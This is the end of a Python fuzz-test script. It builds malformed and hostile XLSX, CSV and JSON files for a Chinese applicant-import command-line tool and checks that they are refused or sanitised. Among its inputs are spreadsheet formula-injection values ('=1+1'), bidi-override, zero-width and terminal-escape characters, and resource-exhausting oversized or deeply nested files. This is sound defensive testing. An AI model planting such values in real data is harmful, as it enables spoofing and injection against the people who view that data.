    add("date-cells-openpyxl.xlsx", lambda p: openpyxl_book(p, _date_cells([0, 1, 60, 2958465, 45000.5])))
    add("number-1e308.xlsx", lambda p: xlsx(p, [[GOOD[0], 1e308, 1e308, 1e308, 1e308]]))
    add("id-as-float.xlsx", lambda p: xlsx(p, [[float(id_number(7)), "张三", "", "4", ""]]))
    add("id-as-float-exact.xlsx", lambda p: xlsx(p, [[float("110105199003071239"), "张三", "", "4", ""]]))
    add("id-as-scientific.xlsx", lambda p: xlsx(p, [['<c r="A2"><v>1.10105199003071E+17</v></c>', "张三", "", "4", ""]]))
    add("phone-as-float.xlsx", lambda p: xlsx(p, [[GOOD[0], "张三", "", "4", 13800000000.0]]))
    add("level-as-float.xlsx", lambda p: xlsx(p, [[GOOD[0], "张三", "", 4.0000000001, ""]]))
    add("id-fullwidth.xlsx", lambda p: xlsx(p, [[GOOD[0].translate({c: c + 0xFEE0 for c in range(48, 58)}), "张三", "",
                                                 "４", ""]]))
    for i, form in enumerate(("2019-3-1", "2019/03/01", "2019.3.1", "2019年3月1日", "20190301", "2019年3月", "3/1/2019",
                              "2019-03-01T00:00:00", "2019-03-01 00:00:00", "２０１９－０３－０１", "2019–03–01",
                              "2019-02-30", "0000-01-01", "9999-12-31", "2019-3", "二〇一九年三月一日", "43525",
                              "43525.0", "1e4", "nan", "-1", " 2019 - 3 - 1 ")):
        add(f"date-text-{i:02d}.csv", lambda p, f=form: text(p, "\n".join([csv_head, good_csv]))
            and text(p.with_name(p.stem + "-工作经历.csv"),
                     "身份证号码,职业（工种）,工作单位,开始日期,结束日期\n" + f"{GOOD[0]},电子商务师,某公司,{f},\n") and p)

    # text policy, each case through the three formats
    for label, value in TEXT_ATTACKS.items():
        row = [GOOD[0], value, *GOOD[2:]]
        if "\ud800" not in value:
            add(f"text-{label}.xlsx", lambda p, r=row: xlsx(p, [r]))
        add(f"text-{label}.json", lambda p, v=value: text(p, json.dumps({"applicants": [
            {"id": "A001", "name": v, "id_number": GOOD[0]}]}, ensure_ascii=True)))
        if "\ud800" not in value:
            add(f"text-{label}.csv", lambda p, v=value: text(p, csv_head + "\n" + ",".join(
                [GOOD[0], '"' + v.replace('"', '""') + '"', *GOOD[2:]]) + "\n"))
    add("text-in-school.json", lambda p: text(p, json.dumps({"applicants": [{"id": "A001", "name": "张三",
        "id_number": GOOD[0], "education": [{"school_type": "secondary_vocational", "major": "电子商务",
                                              "school": "某\u202e学校", "graduated_on": "2010-07-01"}],
        "work": [{"occupation": "电子\u200b商务师", "start": "2015-01-01", "employer": "\x1b[2J公司"}]}]})))

    # CSV
    add("csv-bom.csv", lambda p: text(p, "\ufeff" + csv_head + "\n" + good_csv + "\n"))
    add("csv-utf16le.csv", lambda p: text(p, "\ufeff" + csv_head + "\r\n" + good_csv + "\r\n", "utf-16-le"))
    add("csv-utf16be.csv", lambda p: text(p, "\ufeff" + csv_head + "\r\n" + good_csv + "\r\n", "utf-16-be"))
    add("csv-utf16le-nobom.csv", lambda p: text(p, csv_head + "\r\n" + good_csv + "\r\n", "utf-16-le"))
    add("csv-utf32.csv", lambda p: text(p, "\ufeff" + csv_head + "\n" + good_csv + "\n", "utf-32"))
    add("csv-gbk.csv", lambda p: text(p, csv_head + "\r\n" + good_csv + "\r\n", "gbk"))
    add("csv-gb18030-rare.csv", lambda p: text(p, csv_head + "\r\n" + ",".join([GOOD[0], "张𠀀", *GOOD[2:]]) + "\r\n",
                                               "gb18030"))
    add("csv-latin1.csv", lambda p: text(p, csv_head + "\n" + good_csv.replace("张三", "José") + "\n"
                                         ).write_bytes(p.read_bytes().replace("José".encode(), "José".encode("latin-1"))) and p)
    add("csv-mixed-gbk-utf8.csv", lambda p: text(p, (csv_head + "\n").encode("utf-8")
                                                 + ",".join([GOOD[0], "李四", *GOOD[2:]]).encode("gbk") + b"\n"))
    add("csv-crlf-mixed.csv", lambda p: text(p, csv_head + "\r\n" + good_csv + "\n" + ",".join(
        [id_number(2), "李四", "A002", "4", ""]) + "\r" + ",".join([id_number(3), "王五", "A003", "4", ""]) + "\n"))
    add("csv-lone-cr.csv", lambda p: text(p, csv_head + "\r" + good_csv + "\r"))
    add("csv-nul.csv", lambda p: text(p, csv_head + "\n" + good_csv.replace("张三", "张\x00三") + "\n"))
    add("csv-nul-everywhere.csv", lambda p: text(p, "\x00".join(csv_head + "\n" + good_csv + "\n")))
    add("csv-unterminated-quote.csv", lambda p: text(p, csv_head + "\n" + good_csv + '\n"' + id_number(2) + ',李四'))
    add("csv-quote-in-middle.csv", lambda p: text(p, csv_head + "\n" + good_csv.replace("张三", 'Z"h"ang') + "\n"))
    add("csv-quoted-newline.csv", lambda p: text(p, csv_head + "\n" + good_csv.replace("张三", '"张\n三"') + "\n"))
    add("csv-u2028.csv", lambda p: text(p, csv_head + "\n" + good_csv.replace("张三", "张\u2028三") + "\n"))
    add("csv-formfeed.csv", lambda p: text(p, csv_head + "\n" + good_csv.replace("张三", "张\f三") + "\n"))
    add("csv-header-only.csv", lambda p: text(p, csv_head + "\n"))
    add("csv-empty.csv", lambda p: text(p, ""))
    add("csv-blank-lines.csv", lambda p: text(p, "\n\n,,,\n  \n"))
    add("csv-bom-only.csv", lambda p: text(p, "\ufeff"))
    add("csv-wide.csv", lambda p: text(p, csv_head + "," + ",".join(f"c{i}" for i in range(5000)) + "\n" + good_csv + "\n"))
    add("csv-wide-row.csv", lambda p: text(p, csv_head + "\n" + good_csv + "," * 10_000 + "\n"))
    add("csv-very-wide-row.csv", lambda p: text(p, csv_head + "\n" + good_csv + "," * 5_000_000 + "\n"))
    add("csv-long-field.csv", lambda p: text(p, csv_head + "\n" + good_csv.replace("张三", "张" * 200_000) + "\n"))
    add("csv-long-quoted-field.csv", lambda p: text(p, csv_head + "\n" + good_csv.replace(
        "张三", '"' + "张" * 200_000 + '"') + "\n"))
    add("csv-long-header.csv", lambda p: text(p, "张" * 200_000 + "\n" + good_csv + "\n"))
    add("csv-semicolon.csv", lambda p: text(p, ";".join(HEADERS) + "\n" + ";".join(GOOD) + "\n"))
    add("csv-tab.csv", lambda p: text(p, "\t".join(HEADERS) + "\n" + "\t".join(GOOD) + "\n"))
    add("csv-fullwidth-comma.csv", lambda p: text(p, "，".join(HEADERS) + "\n" + "，".join(GOOD) + "\n"))
    add("csv-binary.csv", lambda p: text(p, os.urandom(4096)))
    add("csv-xlsx-renamed.csv", lambda p: xlsx(p, [GOOD]))
    add("csv-duplicate-header.csv", lambda p: text(p, csv_head + ",姓名\n" + good_csv + ",=1+1\n"))
    add("csv-id-scientific.csv", lambda p: text(p, csv_head + "\n" + good_csv.replace(GOOD[0], "1.10105E+17") + "\n"))
    add("csv-id-fullwidth.csv", lambda p: text(p, csv_head + "\n" + good_csv.replace(
        GOOD[0], GOOD[0].translate({c: c + 0xFEE0 for c in range(48, 58)})) + "\n"))
    add("csv-many-rows-bad.csv", lambda p: text(p, csv_head + "\n" + "".join(
        f"{id_number(i)},考生{i},,9,\n" for i in range(1, 3000))))
    add("csv-sibling-bad.csv", lambda p: text(p, csv_head + "\n" + good_csv + "\n") and text(
        p.with_name(p.stem + "-工作经历.csv"), "\xff\xfe\x00garbage") and p)
    add("csv-sibling-dir.csv", lambda p: (text(p, csv_head + "\n" + good_csv + "\n"),
                                          p.with_name(p.stem + "-学历.csv").mkdir(exist_ok=True))[0])
    if big:
        add("csv-50mb-line.csv", lambda p: text(p, csv_head + "\n" + "张" * 17_000_000 + "\n"))
        add("csv-50mb-commas.csv", lambda p: text(p, csv_head + "\n" + "," * 50_000_000 + "\n"))

    # JSON
    one = {"id": "A001", "name": "张三", "id_number": GOOD[0]}
    add("json-bom.json", lambda p: text(p, "\ufeff" + json.dumps({"applicants": [one]})))
    add("json-utf16.json", lambda p: text(p, json.dumps({"applicants": [one]}, ensure_ascii=False), "utf-16"))
    add("json-gbk.json", lambda p: text(p, json.dumps({"applicants": [one]}, ensure_ascii=False), "gbk"))
    add("json-duplicate-keys.json", lambda p: text(p, '{"applicants": [{"id": "A001", "name": "张三", "name": "=1+1", '
                                                     f'"id_number": "{GOOD[0]}"}}]}}'))
    add("json-duplicate-applicants.json", lambda p: text(p, '{"applicants": [], "applicants": ['
                                                         + json.dumps(one) + "]}"))
    add("json-nan.json", lambda p: text(p, '{"applicants": [{"id": NaN, "name": "张三"}]}'))
    add("json-infinity.json", lambda p: text(p, '{"applicants": [{"id": "A", "name": "张三", "id_number": "' + GOOD[0]
                                             + '", "training": [{"occupation": "x", "level": "4", "hours": Infinity}]}]}'))
    add("json-1e400.json", lambda p: text(p, '{"applicants": [{"id": "A", "name": "张三", "id_number": "' + GOOD[0]
                                          + '", "training": [{"occupation": "x", "level": "4", "hours": 1e400}]}]}'))
    add("json-hours-negative-zero.json", lambda p: text(p, '{"applicants": [{"id": "A", "name": "张三", "id_number": "'
                                                        + GOOD[0] + '", "training": [{"occupation": "x", "level": "4", '
                                                        '"hours": -0.0}]}]}'))
    add("json-huge-int.json", lambda p: text(p, '{"applicants": [{"id": ' + "9" * 5000 + ', "name": "张三"}]}'))
    add("json-huge-int-level.json", lambda p: text(p, '{"applicants": [{"id": "A", "name": "张三", "id_number": "'
                                                   + GOOD[0] + '", "certificates": [{"occupation": "x", "level": '
                                                   + "4" * 40 + "}]}]}"))
    add("json-number-name.json", lambda p: text(p, json.dumps({"applicants": [{**one, "name": 12345}]})))
    add("json-number-id-number.json", lambda p: text(p, json.dumps({"applicants": [{**one, "id_number": int(GOOD[0])}]})))
    add("json-text-level.json", lambda p: text(p, json.dumps({"applicants": [{**one, "certificates": [
        {"occupation": "电子商务师", "level": "四级"}]}]})))
    add("json-bool-level.json", lambda p: text(p, json.dumps({"applicants": [{**one, "certificates": [
        {"occupation": "电子商务师", "level": True}]}]})))
    add("json-float-level.json", lambda p: text(p, json.dumps({"applicants": [{**one, "certificates": [
        {"occupation": "电子商务师", "level": 4.0}]}]})))
    add("json-level-text-standard.json", lambda p: text(p, json.dumps({"applicants": [{**one, "certificates": [
        {"occupation": "电子商务师", "level": "\u202e初级", "standard": "=1+1"}]}]})))
    add("json-lone-surrogate.json", lambda p: text(p, '{"applicants": [{"id": "A001", "name": "\\ud800", "id_number": "'
                                                   + GOOD[0] + '"}]}'))
    add("json-lone-surrogate-key.json", lambda p: text(p, '{"applicants": [{"\\udc00": 1, "id": "A001", "name": "x", '
                                                       '"id_number": "' + GOOD[0] + '"}]}'))
    add("json-raw-invalid-utf8.json", lambda p: text(p, b'{"applicants": [{"id": "A001", "name": "\xff\xfe", '
                                                     b'"id_number": "' + GOOD[0].encode() + b'"}]}'))
    add("json-top-list.json", lambda p: text(p, json.dumps([one])))
    add("json-top-string.json", lambda p: text(p, '"applicants"'))
    add("json-top-null.json", lambda p: text(p, "null"))
    add("json-applicants-object.json", lambda p: text(p, json.dumps({"applicants": {"0": one}})))
    add("json-applicants-null.json", lambda p: text(p, json.dumps({"applicants": None})))
    add("json-empty.json", lambda p: text(p, ""))
    add("json-empty-list.json", lambda p: text(p, json.dumps({"applicants": []})))
    add("json-trailing-garbage.json", lambda p: text(p, json.dumps({"applicants": [one]}) + "garbage"))
    add("json-comments.json", lambda p: text(p, "// x\n" + json.dumps({"applicants": [one]})))
    add("json-whitespace-10mb.json", lambda p: text(p, " " * 10_000_000 + json.dumps({"applicants": [one]})))
    if big:
        add("json-whitespace-200mb.json", lambda p: text(p, " " * 200_000_000 + json.dumps({"applicants": [one]})))
    add("json-deep-field.json", lambda p: text(p, '{"applicants": [{"id": "A", "name": ' + "[" * 900 + "]" * 900
                                               + ', "id_number": "' + GOOD[0] + '"}]}'))
    add("json-too-deep.json", lambda p: text(p, '{"applicants": [{"id": "A", "name": ' + "[" * 200_000 + "]" * 200_000
                                             + "}]}"))
    add("json-deep-education.json", lambda p: text(p, '{"applicants": [{"id": "A", "name": "x", "id_number": "'
                                                   + GOOD[0] + '", "education": ' + "[" * 1000 + "]" * 1000 + "}]}"))
    add("json-deep-objects.json", lambda p: text(p, '{"applicants": [{"id": "A", "name": "x", "extra": '
                                                 + '{"a":' * 1000 + "1" + "}" * 1000 + "}]}"))
    add("json-many-keys.json", lambda p: text(p, json.dumps({"applicants": [{**one, **{f"k{i}": i for i in range(200_000)}}]})))
    add("json-long-key.json", lambda p: text(p, json.dumps({"applicants": [{**one, "k" * 1_000_000: 1}]})))
    add("json-long-field-name.json", lambda p: text(p, json.dumps({"applicants": [{**one, "name": "张" * 1_000_000}]})))
    add("json-work-end-bad.json", lambda p: text(p, json.dumps({"applicants": [{**one, "work": [
        {"occupation": "x", "start": "2019-01-01", "end": {"a": [1, 2]}}]}]})))
    add("json-dates-forms.json", lambda p: text(p, json.dumps({"applicants": [{**one, "id": f"A{i}",
        "id_number": id_number(20 + i), "work": [{"occupation": "x", "start": s}]} for i, s in enumerate(
        ["2019/3/1", "20190301", "2019-03-01T00:00:00", "２０１９-０３-０１", "+002019-03-01", "2019-W10-1", "2019-060",
         43525, None, True, "1900-01-01", "0001-01-01", "9999-12-31"])]})))
    add("json-fullwidth-id.json", lambda p: text(p, json.dumps({"applicants": [{**one, "id_number": GOOD[0].translate(
        {c: c + 0xFEE0 for c in range(48, 58)})}]})))
    add("json-many-records-bad.json", lambda p: text(p, json.dumps({"applicants": [
        {"id": f"A{i}", "name": "\x00", "id_number": "x"} for i in range(20_000)]})))
    add("json-extension-xlsx.xlsx", lambda p: text(p, json.dumps({"applicants": [one]})))
    add("json-as-csv.csv", lambda p: text(p, json.dumps({"applicants": [one]})))

    # names of files
    add("名字 with spaces ‮.csv", lambda p: text(p, csv_head + "\n" + good_csv + "\n"))
    add("no-suffix", lambda p: text(p, csv_head + "\n" + good_csv + "\n"))
    add("upper.CSV", lambda p: text(p, csv_head + "\n" + good_csv + "\n"))
    add("a-directory.xlsx", lambda p: (p.mkdir(exist_ok=True), p)[1])
    return files


# --- running each file through the command line ------------------------------------------------------------

CHINESE = re.compile(r"[\u4e00-\u9fff]")
#: a problem line names its place: "SHEET 第 N 行" (with or without a column) or a file-level message
#: a problem's place: a row; a missing sheet; the file with nothing to import; a key of the JSON document's own
PLACE = re.compile(r"第 \d+ 行|：缺少工作表「|：文件中没有考生：「|\.json「[^」]+」列：")


def table_digest(db_path: Path) -> str:
    con = sqlite3.connect(db_path)
    try:
        digest = hashlib.sha256()
        for (name,) in con.execute("select name from sqlite_master where type='table' order by name"):
            for row in con.execute(f'select * from "{name}" order by 1'):
                if name == "audit" and "problem_report" in row:
                    continue  # a refused import records that it wrote a problem report (and nothing else)
                digest.update(repr(row).encode())
        return digest.hexdigest()
    finally:
        con.close()


def base_database(folder: Path) -> Path:
    """A database with the administrator's account and one applicant imported (not in the corpus's batch)."""
    from tests.account_helpers import add_accounts

    path = folder / "base.sqlite3"
    if path.exists():
        return path
    add_accounts(f"sqlite:///{path}")
    seed = folder / "seed.csv"
    seed.write_text(",".join(HEADERS) + "\n" + ",".join([id_number(999), "老考生", "S1", "4", ""]) + "\n")
    done = _cli(path, ["import", str(seed), "--batch", "旧批次", "--standard", "4-07-02-06", "--as-of", "2025-09-01"])
    assert done.returncode == 0, done.stderr
    return path


def _cli(db: Path, args: list[str], limit: bool = False) -> subprocess.CompletedProcess:
    from tests.account_helpers import ADMIN, TEST_PASSWORD

    code = "import sys; from eligibility_desk.cli import main; sys.exit(main(sys.argv[1:]))"
    cmd = [sys.executable, "-c", code, "--db", f"sqlite:///{db}", *args, "--user", ADMIN]
    env = {**os.environ, "ELIGIBILITY_DESK_PASSWORD": TEST_PASSWORD, "PYTHONWARNINGS": "ignore"}

    def bounded() -> None:  # as `prlimit --as=MEMORY` does, in the child before it runs Python
        import resource

        resource.setrlimit(resource.RLIMIT_AS, (MEMORY, MEMORY))

    try:
        return subprocess.run(cmd, cwd=ROOT, capture_output=True, text=True, timeout=SECONDS, env=env,
                              errors="replace", preexec_fn=bounded if limit else None)
    except subprocess.TimeoutExpired:
        return subprocess.CompletedProcess(cmd, -999, "", f"timed out after {SECONDS} s")


def check(path: Path, base: Path, work: Path, seen: dict | None = None) -> list[str]:
    """What is wrong with importing ``path`` (``[]``: refused cleanly, or accepted and exported cleanly).
    ``seen`` gets the exit status and the first lines printed, by file name."""
    db = work / (re.sub(r"\W", "_", path.name) + ".sqlite3")
    shutil.copy(base, db)
    before = table_digest(db)
    report = work / (re.sub(r"\W", "_", path.name) + "-report.xlsx")
    done = _cli(db, ["import", str(path), "--batch", "秋季", "--standard", "4-07-02-06", "--as-of", "2025-09-01",
                     "--report", str(report)], limit=True)
    wrong = []
    err = done.stderr
    if seen is not None:
        seen[path.name] = (done.returncode, [ln.strip() for ln in err.splitlines() if "问题报告" not in ln][:3])
    if done.returncode not in (0, 1, 2):
        wrong.append(f"exit {done.returncode}: {err[-300:]!r}")
    if "Traceback" in err or "Error:" in err.split("\n")[-2:][0]:
        wrong.append("traceback: " + err[-400:].replace("\n", " | "))
    if done.returncode in (1, 2):
        if table_digest(db) != before:
            wrong.append("database changed although refused")
        if not CHINESE.search(err):
            wrong.append(f"no Chinese in: {err[-200:]!r}")
        # the problems printed (the first 200; "……另有 N 个问题" then points at the report)
        lines = [ln.strip() for ln in err.splitlines() if ln.startswith("  ") and not ln.strip().startswith("……")]
        for ln in lines:
            if not PLACE.search(ln):
                wrong.append(f"problem without a place: {ln[:160]!r}")
                break
        if done.returncode == 2 and len(err) > 2000:
            wrong.append(f"long message ({len(err)} chars)")
        if report.exists() and _formulas(report):
            wrong.append("formula in the problem report")
    elif done.returncode == 0:
        wrong.extend(_accepted(db, work, path))
    db.unlink(missing_ok=True)
    return wrong


def _formulas(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as archive:
        return [n for n in archive.namelist() if n.startswith("xl/worksheets/")
                and re.search(rb"<(\w+:)?f[ >/]", archive.read(n))]


def suspicious(text: str) -> str | None:
    """Why stored text could spoof or break what shows it (checked here independently of the text policy):
    a control, format, surrogate or separator character, a default-ignorable code point (Hangul
    fillers, variation selectors but one directly after a CJK ideograph, tags), a noncharacter, more than four
    combining marks on one character."""
    import unicodedata

    marks = 0
    before = ""
    for ch in text:
        category = unicodedata.category(ch)
        if category in ("Cc", "Cf", "Cs", "Zl", "Zp"):
            return f"{category} U+{ord(ch):04X}"
        if "\ufdd0" <= ch <= "\ufdef" or (ord(ch) & 0xFFFE) == 0xFFFE:
            return f"noncharacter U+{ord(ch):04X}"
        selector = "\ufe00" <= ch <= "\ufe0f" or "\U000e0100" <= ch <= "\U000e01ef"
        after_ideograph = before != "" and unicodedata.name(before, "").startswith("CJK ")  # a variation sequence
        if ch in "\u115f\u1160\u3164\uffa0\u034f\u17b4\u17b5" or "\u180b" <= ch <= "\u180f" \
                or (selector and not after_ideograph) or (not selector and "\U000e0000" <= ch <= "\U000e0fff"):
            return f"invisible U+{ord(ch):04X}"
        before = ch
        marks = marks + 1 if category in ("Mn", "Me") else 0
        if marks > 4:
            return "stacked combining marks"
    return None


def _accepted(db: Path, work: Path, path: Path) -> list[str]:
    """An accepted file: every stored text passes the text policy; the export has no formula."""
    wrong = []
    con = sqlite3.connect(db)
    try:
        for (name,) in con.execute("select name from sqlite_master where type='table'"):
            if name in ("audit", "audit_log", "alembic_version", "accounts", "account"):
                continue
            for row in con.execute(f'select * from "{name}"'):
                for value in row:
                    if isinstance(value, str) and len(value) < 10_000 and not value.startswith(("{", "[")):
                        found = suspicious(value)
                        if found is not None:
                            wrong.append(f"stored in {name}: {value[:40]!r} ({found})")
                            break
    finally:
        con.close()
    out = work / (re.sub(r"\W", "_", path.name) + "-export.xlsx")
    done = _cli(db, ["export", "--batch", "秋季", str(out)], limit=True)
    if done.returncode != 0:
        wrong.append(f"export failed ({done.returncode}): {done.stderr[-300:]!r}")
    elif _formulas(out):
        wrong.append("formula in the export")
    return wrong


def main(argv=None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("action", choices=("build", "run"))
    parser.add_argument("out", type=Path)
    parser.add_argument("--big", action="store_true")
    parser.add_argument("-k", default="", help="only files whose name contains this")
    parser.add_argument("--jobs", type=int, default=2)
    parser.add_argument("-v", action="store_true", help="show each file's exit status and first lines")
    args = parser.parse_args(argv)
    files = build(args.out / "corpus", args.big)
    if args.action == "build":
        print(f"{len(files)} files in {args.out / 'corpus'}")
        return 0
    files = [f for f in files if args.k in f.name and not f.name.endswith(tuple(f"-{s}.csv" for s in
                                                                                   ("工作经历", "学历")))]
    work = Path(tempfile.mkdtemp(prefix="hostile-"))
    base = base_database(work)
    failures = 0
    seen: dict = {}
    with ThreadPoolExecutor(args.jobs) as pool:
        for path, wrong in zip(files, pool.map(lambda f: check(f, base, work, seen), files)):
            status = "FAIL" if wrong else "ok  "
            failures += bool(wrong)
            print(f"{status} {path.name[:60]}" + "".join(f"\n       {w}" for w in wrong), flush=True)
            if args.v:
                code, lines = seen.get(path.name, (None, []))
                print(f"       [{code}] " + " | ".join(ln[:150] for ln in lines), flush=True)
    shutil.rmtree(work, ignore_errors=True)
    print(f"{failures} of {len(files)} files failed")
    return 1 if failures else 0


if __name__ == "__main__":
    sys.exit(main())
